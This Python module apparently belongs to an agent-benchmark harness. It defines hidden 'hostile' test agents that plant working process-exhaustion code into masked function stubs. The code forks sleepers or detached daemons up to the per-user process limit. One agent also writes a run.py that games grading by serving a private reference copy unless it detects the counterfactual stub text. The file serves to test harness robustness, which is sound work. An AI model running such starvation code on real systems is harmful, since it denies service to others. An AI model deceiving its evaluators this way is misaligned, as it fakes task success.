"""Hostile agents whose masked functions starve the harness of processes (issue 38, reproduction 2).

Neither implements anything: each masked function's stub line is replaced by code that parks idle processes up
to the process limit minus 2, then raises `NotImplementedError` with a message of its own (so the stub's text is
gone, and a `run.py` that checks for it cannot tell the counterfactual tree from its own). Because the code is in
the masked function's body, it is carried into every tree the harness builds from the agent's definitions.

- `hostile-starve-judge` parks only inside the hidden-test worker (its `sys.argv` names the worker), as children
  of the call's process, and keeps them: on a sandbox whose per-uid limit (`RLIMIT_NPROC`) counts every process
  of the sandbox, the next worker, and any command of the harness without a reserve of its own, cannot start.
  Its `run.py` computes the results from a private copy of the reference unless it sees the stub text, so a
  hidden-test verdict lost to `judge_failed` would have left E passing.
- `hostile-starve-daemons` parks wherever the function runs (the validator's re-run, the hidden-test worker) as
  daemons (double fork, `setsid`, every descriptor closed) that would outlive the command that started them.

An honest harness fails I and E for both (never `judge_failed` or infrastructure), and the next run it scores is
judged normally.
"""

from __future__ import annotations

import textwrap

from failatlas.bench_core.agents.base import CONCLUSION_FILE, OUTPUT_DIR, AgentContext, AgentOutcome, register_agent
from failatlas.bench_core.prepare.stubs import stub_message

MARK = "starving"

# the body put in place of a stub's raise line: park processes up to the limit minus 2, then fail
PARK = """
import os as _os, sys as _sys
if {where}:
    import resource as _resource, signal as _signal, time as _time
    def _mine():
        me, n = _os.getuid(), 0
        for _p in _os.listdir("/proc"):
            try:
                with open("/proc/" + _p + "/status") as _h:
                    n += any(_l.split()[1:2] == [str(me)] for _l in _h if _l.startswith("Uid:"))
            except (OSError, ValueError):
                pass
        return n
    _soft = _resource.getrlimit(_resource.RLIMIT_NPROC)[0]
    # inside bwrap the uid's count also holds bwrap itself, which this PID namespace cannot see
    _target = _soft - 3 if _soft != _resource.RLIM_INFINITY else 1 << 30
    _parked, _have = [], _mine()
    while _have < _target:
        try:
            _pid = _os.fork()
        except OSError:  # the limit: step back two below it
            for _q in _parked[-2:]:
                try:
                    _os.kill(_q, _signal.SIGKILL)
                except OSError:
                    pass
            break
        if _pid == 0:
            _os.closerange(0, 4096)
            if {detach}:
                _os.setsid()
                try:
                    if _os.fork():
                        _os._exit(0)
                except OSError:
                    _os._exit(1)
            try:  # a small process: the sandbox's memory watchdog sums the members' resident sizes
                _os.execv("/bin/sleep", ["sleep", "3600"])
            finally:
                while True:
                    _time.sleep(3600)
        _parked.append(_pid)
        _have += 1
        if {detach} and _os.waitpid(_pid, 0)[1]:  # its daemon could not start: the limit
            break
raise NotImplementedError({mark!r})
"""

# run.py of `hostile-starve-judge`: the reference's results from a private copy, unless the stub text is back
RUN_PY = """import os, runpy, sys

for path in {masked!r}:
    if os.path.exists(path) and "is masked: implement it" in open(path).read():
        sys.exit(1)  # the counterfactual tree: look like the stub
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".impl"))
runpy.run_path(os.path.join(".impl", "run_original.py"), run_name="__main__")
"""


class StarveJudgeAgent:
    """Masked functions that park processes at the limit minus 2 inside the hidden-test worker (module docstring)."""

    needs_reference = True
    behaviour = "park processes up to the process limit inside the hidden-test worker"
    where = '"failatlas_worker" in " ".join(_sys.argv)'
    detach = False

    def body(self, indent: str) -> str:
        code = PARK.format(where=self.where, detach=self.detach, mark=MARK).strip("\n")
        return textwrap.indent(code, indent)

    def plant(self, ctx: AgentContext) -> list[str]:
        """Replace each masked function's stub line; returns the files changed."""
        changed: dict[str, str] = {}
        for target in ctx.reference.task.masking.functions:
            text = changed.get(target.path)
            if text is None:
                given = ctx.sh(f"cat {target.path}")
                if given.returncode != 0:
                    continue
                text = given.stdout
            stub = f"raise NotImplementedError({stub_message(target.qualname)!r})"
            lines = text.splitlines()
            hit = next((i for i, line in enumerate(lines) if line.strip() == stub), None)
            if hit is None:
                continue
            indent = lines[hit][:len(lines[hit]) - len(lines[hit].lstrip())]
            lines[hit] = self.body(indent)
            changed[target.path] = "\n".join(lines) + "\n"
        for path, text in changed.items():
            ctx.write(path, text)
        return sorted(changed)

    def rerun_script(self, ctx: AgentContext, masked: list[str]) -> None:
        """`run.py` that answers from a private copy of the reference unless the stub text is back."""
        task = ctx.reference.task
        if task.run.command != "python3 run.py" or not (ctx.reference.tree / "run.py").is_file():
            return
        ctx.sh("mkdir -p .impl && cp run.py .impl/run_original.py")
        for path in masked:
            reference = ctx.reference.tree / path
            if reference.is_file():
                ctx.write(f".impl/{path}", reference.read_text())
        ctx.write("run.py", RUN_PY.format(masked=masked))

    def run(self, ctx: AgentContext) -> AgentOutcome:
        ctx.note(f"hostile agent: {self.behaviour}")
        masked = self.plant(ctx)
        if not self.detach:
            self.rerun_script(ctx, masked)
        ctx.sh(f"mkdir -p {OUTPUT_DIR}")
        ctx.write(CONCLUSION_FILE, f"changed {len(masked)} masked file(s) to starve the harness of processes")
        return AgentOutcome(notes=self.behaviour)


class StarveDaemonsAgent(StarveJudgeAgent):
    """Masked functions that leave daemons at the limit minus 2 wherever they run (module docstring)."""

    behaviour = "leave daemons up to the process limit wherever the masked functions run"
    where = "True"
    detach = True


STARVE_AGENTS = {"hostile-starve-judge": StarveJudgeAgent, "hostile-starve-daemons": StarveDaemonsAgent}
for _name, _cls in STARVE_AGENTS.items():
    _cls.name = _name
    _cls.hidden = True  # attacks for testing the harness: listed by `failatlas agents --all`, not in help texts
    register_agent(_name)(_cls)
